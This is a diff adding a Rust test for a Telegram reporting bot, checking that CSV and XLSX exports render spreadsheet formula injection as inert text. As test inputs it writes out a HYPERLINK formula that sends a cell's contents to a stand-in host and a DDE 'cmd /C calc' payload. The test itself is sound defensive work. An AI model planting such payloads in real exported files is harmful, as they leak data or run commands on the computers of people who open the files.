@@ -501,3 +501,53 @@ async fn extending_the_deadline_tells_the_units_that_have_not_reported() {
     assert_eq!(bot.store().period(period).await.unwrap().unwrap().due_at, vn(30, 6, 17, 0));
     assert!(bot.store().recent_events(Some("period.extended"), 5).await.unwrap().len() == 1);
 }
+
+#[tokio::test]
+async fn csv_formula_injection_is_written_as_text_and_xlsx_keeps_strings_as_strings() {
+    let tg = FakeTelegram::start().await;
+    let (bot, period, mut admin) = period_in_every_state(&tg).await;
+    // A chair (Nà Sáy) answers with a formula that would send the row away when the file is opened.
+    let formula = r#"=HYPERLINK("http://example.invalid/?"&B2,"Chi tiết")"#;
+    let member = bot.store().member_by_tg_user(1003).await.unwrap().unwrap();
+    let unit = member.unit_id.unwrap();
+    let mut draft = Draft::default();
+    let a = &mut draft.answers;
+    a.insert("ket_qua".into(), Answer::Text { text: formula.into() });
+    a.insert("chi_tieu".into(), Answer::Fraction { num: 1, den: 2 });
+    a.insert("phong_trao".into(), Answer::Number { value: 1 });
+    a.insert("dien_hinh".into(), Answer::Number { value: 0 });
+    a.insert("khen_thuong".into(), Answer::Text { text: "@SUM(1+1)*cmd|' /C calc'!A0".into() });
+    let now = bot.clock.now();
+    bot.store().save_draft(period, unit, member.id, &draft, now).await.unwrap();
+    bot.store().submit_report(period, unit, member.id, now).await.unwrap().unwrap();
+
+    admin.send("/xuat csv");
+    admin.next_message().await;
+    let (_, bytes) = documents(&tg, ADMIN).pop().unwrap();
+    let mut reader = csv::Reader::from_reader(&bytes[3..]);
+    let nasay = reader
+        .records()
+        .map(Result::unwrap)
+        .find(|r| r.get(1) == Some("Xã Nà Sáy"))
+        .expect("Nà Sáy's row");
+    assert!(nasay.iter().any(|c| c == format!("'{formula}")), "{nasay:?}");
+    assert!(nasay.iter().any(|c| c.starts_with("'@SUM")), "{nasay:?}");
+    assert!(
+        nasay.iter().all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
+        "no cell starts like a formula: {nasay:?}"
+    );
+
+    admin.send("/xuat");
+    admin.next_message().await;
+    let (_, bytes) = documents(&tg, ADMIN).pop().unwrap();
+    let mut book =
+        calamine::open_workbook_from_rs::<calamine::Xlsx<_>, _>(std::io::Cursor::new(bytes))
+            .unwrap();
+    let answers = book.worksheet_range("Báo cáo").unwrap();
+    let formulas = book.worksheet_formula("Báo cáo").unwrap();
+    assert!(
+        answers.used_cells().any(|(_, _, v)| *v == Data::String(formula.into())),
+        "the XLSX holds the answer as the string it is"
+    );
+    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "and no formula");
+}
